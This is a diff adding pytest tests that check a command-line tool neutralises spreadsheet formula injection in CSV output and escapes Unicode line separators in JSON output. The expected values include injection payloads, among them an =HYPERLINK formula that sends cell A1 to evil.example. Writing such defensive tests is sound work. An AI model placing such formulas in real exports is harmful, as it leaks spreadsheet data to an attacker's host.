@@ -180,3 +180,60 @@ def test_no_colour_when_piped() -> None:
     assert result.returncode == 0, result.stderr
     assert "\x1b" not in result.stdout
     assert "RED LINE" in result.stdout
+
+
+FORMULAS = KBS / "formulas.yaml"
+CSV_COMMANDS = (
+    ("filter",),
+    ("show", "x"),
+    ("diff", "x", "y"),
+    ("timeline",),
+    ("matrix",),
+    ("sources",),
+    ("export", "--output", "-"),
+)
+
+
+@pytest.mark.parametrize("command", CSV_COMMANDS, ids=lambda c: c[0])
+def test_csv_cells_a_spreadsheet_would_run_begin_with_an_apostrophe(cli, command) -> None:
+    result = cli(*command, "--format", "csv", "--kb", FORMULAS)
+    assert result.exit_code == 0
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(machine.FORMULA_START)]
+    raw = cli(*command, "--format", "csv", "--csv-raw", "--kb", FORMULAS)
+    raw_cells = [cell for row in csv.reader(io.StringIO(raw.stdout)) for cell in row]
+    assert len(raw_cells) == len(cells)
+    for cell, written in zip(cells, raw_cells, strict=True):
+        assert cell == ("'" + written if written.startswith(machine.FORMULA_START) else written)
+    assert any(cell.startswith(machine.FORMULA_START) for cell in raw_cells)
+
+
+def test_filter_csv_neutralises_each_formula_cell_once(cli) -> None:
+    result = cli("filter", "--format", "csv", "--kb", FORMULAS)
+    boom, other = csv.DictReader(io.StringIO(result.stdout))
+    assert boom["summary"] == "'=1+1"
+    assert boom["conditions"] == "'=A1; b"
+    assert boom["source_title"] == "'@SUM(1+1)"
+    assert boom["source_publisher"] == "'\tTabbed"
+    assert other["summary"] == "Safe = text"
+    export = cli("export", "-f", "csv", "-o", "-", "--kb", FORMULAS).stdout
+    row = next(csv.DictReader(io.StringIO(export)))
+    assert row["actor_name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    assert row["issue_name"] == "'-land"
+
+
+def test_csv_cells_that_only_look_like_formulas_later_are_kept() -> None:
+    assert machine.csv_value("a=1") == "a=1"
+    assert machine.csv_value("-x", raw=True) == "-x"
+    assert machine.csv_value(["=a", "=b"]) == "'=a; =b"
+    assert machine.csv_value("\rx") == "\\x0dx"  # made visible, so no longer a formula
+
+
+def test_json_lines_escape_line_and_paragraph_separators(cli) -> None:
+    for command in (("export", "-f", "jsonl", "-o", "-"), ("filter", "-f", "json")):
+        output = cli(*command, "--kb", FORMULAS).stdout
+        assert "\u2028" not in output and "\u2029" not in output
+        assert "Line one\\u2028line two\\u2029end" in output
+    lines = cli("export", "-f", "jsonl", "-o", "-", "--kb", FORMULAS).stdout.splitlines()
+    assert [json.loads(line)["id"] for line in lines] == ["boom", "other"]
+    assert json.loads(lines[0])["note"] == "Line one\u2028line two\u2029end"
